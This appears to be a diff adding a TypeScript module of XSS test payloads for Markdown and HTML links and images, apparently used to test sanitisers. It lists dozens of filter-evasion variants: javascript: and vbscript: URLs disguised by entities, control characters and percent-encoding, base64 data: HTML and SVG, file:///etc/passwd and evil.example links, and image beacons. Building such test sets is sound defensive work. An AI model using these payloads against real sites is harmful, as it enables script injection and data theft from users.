@@ -1,0 +1,58 @@
+import { base64, entities, payloadsOf } from './payload.ts';
+
+const page = (script: string): string => `<script>${script}</script>`;
+
+/** Links whose address runs script, in Markdown and HTML, plain or disguised; and addresses that lead elsewhere. */
+export const addressPayloads = payloadsOf('address', {
+  javascript: ({ call }) => `[Continue](javascript:${call})`,
+  'javascript-html': ({ call }) => `<a href="javascript:${call}">Continue</a>`,
+  'javascript-alert': () => '[Continue](javascript:alert(1))',
+  'javascript-new-tab': ({ call }) =>
+    `<a target="_blank" rel="opener" href="javascript:${call}">Continue</a>`,
+  'mixed-case': ({ call }) => `[Continue](JaVaScRiPt:${call})`,
+  'colon-named-entity': ({ call }) => `[Continue](javascript&colon;${call})`,
+  'colon-number-entity': ({ call }) => `<a href="javascript&#58;${call}">Continue</a>`,
+  'first-letter-entity': ({ call }) => `[Continue](&#106;avascript:${call})`,
+  'all-entities': ({ call }) => `[Continue](${entities(`javascript:${call}`)})`,
+  'all-entities-html': ({ call }) => `<a href="${entities(`javascript:${call}`)}">Continue</a>`,
+  'entities-without-semicolon': ({ call }) => `<a href="&#106&#97&#118&#97script:${call}">Continue</a>`,
+  'entities-padded': ({ call }) => `<a href="&#0000106&#0000097vascript:${call}">Continue</a>`,
+  'entity-twice': ({ call }) => `[Continue](&amp;#106;avascript:${call})`,
+  'tab-entity': ({ call }) => `<a href="java&Tab;script:${call}">Continue</a>`,
+  'newline-entity': ({ call }) => `[Continue](java&NewLine;script:${call})`,
+  'return-entity': ({ call }) => `<a href="java&#13;script:${call}">Continue</a>`,
+  'tab-raw': ({ call }) => `[Continue](<java\tscript:${call}>)`,
+  'newline-raw': ({ call }) => `<a href="java\nscript:${call}">Continue</a>`,
+  'tab-before-colon': ({ call }) => `<a href="javascript\t:${call}">Continue</a>`,
+  'leading-space': ({ call }) => `<a href="   javascript:${call}">Continue</a>`,
+  'leading-control': ({ call }) => `[Continue](&#14;javascript:${call})`,
+  'null-entity': ({ call }) => `[Continue](java&#0;script:${call})`,
+  'percent-scheme': ({ call }) => `[Continue](%6Aavascript:${call})`,
+  'percent-colon': ({ call }) => `[Continue](javascript%3A${call})`,
+  'percent-body': ({ call }) => `[Continue](javascript:${encodeURIComponent(call)})`,
+  'backslash-colon': ({ call }) => `[Continue](javascript\\:${call})`,
+  'like-a-host': ({ call }) => `[Continue](javascript://example.org/%0A${call})`,
+  'like-a-path': ({ call }) => `[Continue](./javascript:${call})`,
+  'query-inside': ({ call }) => `[Continue](javascript:/*https://example.org/?q=*/${call})`,
+  'data-html': ({ script }) => `[Continue](<data:text/html,${page(script)}>)`,
+  'data-base64': ({ script }) => `[Continue](data:text/html;base64,${base64(page(script))})`,
+  'data-svg': ({ script }) =>
+    `<a href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg">${page(script)}</svg>`)}">Continue</a>`,
+  'data-mixed-case': ({ script }) => `[Continue](DaTa:text/html;base64,${base64(page(script))})`,
+  'data-without-type': ({ script }) => `[Continue](data:,${script})`,
+  vbscript: ({ id }) => `[Continue](vbscript:MsgBox("${id}"))`,
+  'vbscript-mixed-case': ({ id }) => `<a href="VbScRiPt:MsgBox('${id}')">Continue</a>`,
+  'view-source': ({ beacon }) => `[Continue](view-source:${beacon})`,
+  blob: () => '[Continue](blob:https://evil.example/1b4e28ba-2fa1-11d2-883f-0016d3cca427)',
+  file: () => '[Continue](file:///etc/passwd)',
+  'feed-javascript': ({ call }) => `[Continue](feed:javascript:${call})`,
+  intent: () => '[Continue](intent://evil.example/#Intent;scheme=https;end)',
+  livescript: ({ call }) => `[Continue](livescript:${call})`,
+  'area-map': ({ call }) =>
+    `<map name=m><area shape=default href="javascript:${call}"></map><img usemap="#m" width=99 height=99>`,
+  'image-javascript': ({ call }) => `![](javascript:${call})`,
+  'image-protocol-relative': ({ beacon }) => `![](${beacon.slice('https:'.length)})`,
+  'image-backslashes': ({ beacon }) => `<img src="${beacon.replace('https://', 'https:\\\\')}">`,
+  'image-user-info': ({ beacon }) => `![](${beacon.replace('https://', 'https://example.org@')})`,
+  'image-entities': ({ beacon }) => `![](${entities(beacon)})`,
+});
